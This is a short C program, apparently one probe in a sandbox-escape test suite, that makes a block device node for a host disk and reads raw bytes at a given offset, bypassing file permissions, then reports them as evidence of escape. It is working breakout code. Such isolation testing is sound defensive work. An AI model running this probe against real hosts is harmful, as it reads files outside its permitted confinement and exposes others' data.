/* mknod a host disk: make a device node for the host's disk and read it
 * raw, below every file permission: the bytes of a host file at the
 * offset the file system put them.  ARGS: MAJOR MINOR OFFSET LEN. */
#include "attack.h"

#include <fcntl.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>

int main(int argc, char **argv)
{
	char **a = bxa_init(argc, argv, 4, "MAJOR MINOR OFFSET LEN");
	dev_t dev = makedev(atoi(a[0]), atoi(a[1]));
	off_t off = strtoll(a[2], NULL, 0);
	size_t len = strtoul(a[3], NULL, 0);
	char node[4096];
	static char blk[4096] __attribute__((aligned(4096)));
	snprintf(node, sizeof node, "%s/bxa-node-%s", bxa_scratch, bxa_nonce);
	if (mknod(node, S_IFBLK | 0600, dev) < 0)
		return bxa_fail("mknod %s b %s %s", node, a[0], a[1]);
	/* O_DIRECT: the bytes on the disk, not a cached copy. */
	int fd = open(node, O_RDONLY | O_DIRECT);
	unlink(node);
	if (fd < 0)
		return bxa_fail("open %s", node);
	off_t base = off & ~(off_t)4095;
	if (pread(fd, blk, sizeof blk, base) < (ssize_t)sizeof blk)
		return bxa_fail("read the disk at %lld", (long long)base);
	close(fd);
	if (len > 200 || off - base + len > sizeof blk)
		len = 0;
	char out[256];
	memcpy(out, blk + (off - base), len);
	out[len] = '\0';
	bxa_data(out);
	bxa_claim(1, "read %zu bytes of the host disk %s:%s at offset %lld", len, a[0], a[1], (long long)off);
	return 0;
}
